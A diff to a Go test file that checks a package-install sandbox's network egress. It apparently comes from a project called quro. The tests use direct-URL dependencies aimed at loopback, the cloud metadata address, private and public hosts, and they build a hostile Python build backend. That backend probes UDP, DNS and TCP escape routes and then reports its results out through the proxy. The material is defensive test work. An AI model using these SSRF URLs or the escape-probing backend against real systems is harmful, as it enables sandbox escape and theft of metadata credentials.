@@ -1,9 +1,15 @@
 package app
 
 import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
 	"fmt"
+	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -14,6 +20,7 @@ import (
 	"sync/atomic"
 	"testing"
 
+	"github.com/quro-dev/quro/internal/pip"
 	"github.com/quro-dev/quro/internal/pip/piptest"
 	"github.com/quro-dev/quro/internal/sandbox"
 	"github.com/quro-dev/quro/internal/sandbox/sandboxtest"
@@ -207,12 +214,14 @@ func TestPipFetchInTenantCgroupOneAtATime(t *testing.T) {
 // index (which itself is on loopback, as the operator configured it)
 // declares a direct-URL dependency on the server's loopback (another
 // port, a listener of the test's, by http and by https), on the cloud
-// metadata address and on a private address. The server's fetch goes
-// through its egress proxy, which refuses each: install_packages fails
-// naming the destination and its class, and the listener saw no
-// connection. A dependency on a git repository there (git, which pip
-// runs, ignores the proxy) fails too, the listener still untouched. A
-// package without such a dependency still comes from the loopback index.
+// metadata address, on a private address, on a public address and on a
+// name. The server's fetch goes through its egress proxy, which connects
+// to the configured index alone: install_packages fails naming the
+// destination and its class (or that it is not a configured index), and
+// the listener saw no connection. A dependency on a git repository there
+// (git, which pip runs, ignores the proxy) fails too, the listener still
+// untouched: loopback in the fetch box is the box's own. A package
+// without such a dependency still comes from the loopback index.
 func TestPipFetchRefusesDirectURLsToTheHostsNetworks(t *testing.T) {
 	t.Parallel()
 	ln := sandboxtest.ListenHost(t, "")
@@ -227,6 +236,8 @@ func TestPipFetchRefusesDirectURLsToTheHostsNetworks(t *testing.T) {
 		evil("quroloops", "https://"+target+"/evil-1.0-py3-none-any.whl"),
 		evil("quromd", "http://169.254.169.254/latest/meta-data/evil-1.0-py3-none-any.whl"),
 		evil("quropriv", "http://10.255.0.1:8080/evil-1.0-py3-none-any.whl"),
+		evil("quropub", "http://203.0.113.7/evil-1.0-py3-none-any.whl"),
+		evil("quroname", "https://files.example.org/evil-1.0-py3-none-any.whl"),
 		evil("qurogit", "git+http://"+target+"/evil.git"))
 	a := pipApp(t, ix)
 	s := sessionAs(t, a, pipAlice, "ssrf", "", nil)
@@ -235,6 +246,8 @@ func TestPipFetchRefusesDirectURLsToTheHostsNetworks(t *testing.T) {
 		"quroloops": target + " (loopback address)",
 		"quromd":    "169.254.169.254:80 (link-local address)",
 		"quropriv":  "10.255.0.1:8080 (private address)",
+		"quropub":   "203.0.113.7:80 (not a configured index)",
+		"quroname":  "files.example.org:443 (not a configured index)",
 	} {
 		_, err := installPip(t, a, pipAlice, s.ID, pkg)
 		if err == nil || !strings.Contains(err.Error(), "refused to connect to "+want) {
@@ -259,5 +272,149 @@ func TestPipFetchRefusesDirectURLsToTheHostsNetworks(t *testing.T) {
 	}
 	if res, err := installPip(t, a, pipAlice, s.ID, "quroplain"); err != nil || res.FromCache || len(res.Wheels) != 1 {
 		t.Fatalf("a plain package from the loopback index: %+v %v", res, err)
+	}
+}
+
+// sdist is a source archive (name-version.tar.gz) of files under
+// name-version/.
+func sdist(t *testing.T, name, version string, files map[string]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for path, body := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name + "-" + version + "/" + path, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := io.WriteString(tw, body); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// TestPipFetchPackageCodeReachesNothing: a package on the index names a
+// source archive (on the index itself), whose in-tree build backend pip
+// runs in the fetch box for its metadata despite --only-binary. That
+// package code sends UDP datagrams (QUIC-sized) to every address of the
+// host, where a listener waits, asks a public resolver over UDP for a
+// name, and connects by TCP to the host's addresses past pip's proxy;
+// then it reports what happened to the index through the proxy (the
+// one way out) and fails. Its report arrives (the event the test waits
+// for): every datagram off the box's loopback was dropped at sendto, the
+// name did not resolve, no TCP connection reached the host; the host's
+// UDP and TCP listeners heard nothing, and the install's error names what
+// the fetch box's egress refused.
+func TestPipFetchPackageCodeReachesNothing(t *testing.T) {
+	t.Parallel()
+	hu, err := net.ListenPacket("udp", ":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer hu.Close()
+	var heard atomic.Int64
+	go func() {
+		b := make([]byte, 2048)
+		for {
+			if _, _, err := hu.ReadFrom(b); err != nil {
+				return
+			}
+			heard.Add(1)
+		}
+	}()
+	uport := hu.LocalAddr().(*net.UDPAddr).Port
+	ht := newHostListener(t, "tcp", ":0")
+
+	ix := newTestIndex(t)
+	ixHost := strings.TrimPrefix(ix.Server.URL, "http://")
+	reports := make(chan string, 1)
+	ix.OnRequest(func(r *http.Request) {
+		if r.URL.Path == "/files/report" {
+			select {
+			case reports <- r.URL.Query().Get("r"):
+			default:
+			}
+		}
+	})
+	var udp, tcp []string
+	for _, ad := range append(hostAddrs(t), netip.MustParseAddr("169.254.169.254")) {
+		fam := "socket.AF_INET"
+		if ad.Is6() && !ad.Is4In6() {
+			fam = "socket.AF_INET6"
+		}
+		udp = append(udp, fmt.Sprintf(`(%s, (%q, %d))`, fam, ad.String(), uport))
+		tcp = append(tcp, fmt.Sprintf(`(%s, (%q, %d))`, fam, ad.String(), ht.port))
+	}
+	backend := `import socket, urllib.parse, urllib.request
+res = []
+for fam, addr in [` + strings.Join(udp, ", ") + `, (socket.AF_INET, ("8.8.8.8", 443))]:
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    try:
+        s.sendto(b"QUIC" * 300, addr); res.append("udp-sent %s" % (addr,))
+    except OSError as e:
+        res.append("udp-dropped %s %s" % (addr, e.errno))
+try:
+    socket.getaddrinfo("github.com", 443); res.append("dns-resolved github.com")
+except OSError as e:
+    res.append("dns-failed github.com %s" % e)
+for fam, addr in [` + strings.Join(tcp, ", ") + `]:
+    c = socket.socket(fam, socket.SOCK_STREAM)
+    c.settimeout(20)
+    try:
+        c.connect(addr); c.sendall(b"GET / HTTP/1.0\r\n\r\n"); d = c.recv(200)
+        res.append(("tcp-REACHED %s %r" if b"hello-from" in d else "tcp-closed %s %r") % (addr, d))
+    except OSError as e:
+        res.append("tcp-refused %s %s" % (addr, e))
+try:
+    urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:` + strconv.Itoa(pip.ProxyPort) + `"})).open(
+        "http://` + ixHost + `/files/report?" + urllib.parse.urlencode({"r": "\n".join(res)}), timeout=30)
+except Exception:
+    pass
+raise SystemExit("quro-evil backend done")
+`
+	ix.AddFile("quroevil-1.0.tar.gz", sdist(t, "quroevil", "1.0", map[string]string{
+		"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"evilbackend\"\nbackend-path = [\".\"]\n",
+		"evilbackend.py": backend,
+		"PKG-INFO":       "Metadata-Version: 2.1\nName: quroevil\nVersion: 1.0\n",
+	}))
+	ix.Add(piptest.BuildWheelMeta(t, "qurobuilds", "1.0", "py3-none-any", "Requires-Dist: quroevil @ http://"+ixHost+"/files/quroevil-1.0.tar.gz\n",
+		map[string][]byte{"qurobuilds/__init__.py": []byte("")}))
+	a := pipApp(t, ix)
+	s := sessionAs(t, a, pipAlice, "udp", "", nil)
+	_, ierr := installPip(t, a, pipAlice, s.ID, "qurobuilds")
+	t.Logf("install: %v", ierr)
+	var report string
+	select {
+	case report = <-reports:
+	default:
+		t.Fatalf("the build backend's report never reached the index (did pip run it?): %v", ierr)
+	}
+	t.Logf("the backend's report:\n%s", report)
+	if ierr == nil {
+		t.Error("qurobuilds installed, want a failure")
+	}
+	for _, l := range strings.Split(report, "\n") {
+		switch {
+		case strings.HasPrefix(l, "udp-sent"), strings.HasPrefix(l, "dns-resolved"), strings.HasPrefix(l, "tcp-REACHED"):
+			// The box's own loopback is not out.
+			if !strings.Contains(l, "'127.0.0.1'") && !strings.Contains(l, "'::1'") {
+				t.Errorf("package code in the fetch box got out: %s", l)
+			}
+		}
+	}
+	if !strings.Contains(report, "dns-failed github.com") {
+		t.Errorf("github.com resolved in the fetch box:\n%s", report)
+	}
+	if n, m := heard.Load(), ht.n.Load(); n != 0 || m != 0 {
+		t.Errorf("the host's UDP listener heard %d datagrams and its TCP listener %d connections from the fetch box", n, m)
+	}
+	if ierr != nil && !strings.Contains(ierr.Error(), "refused to connect to") {
+		t.Errorf("the error does not name what the fetch's egress refused: %v", ierr)
 	}
 }
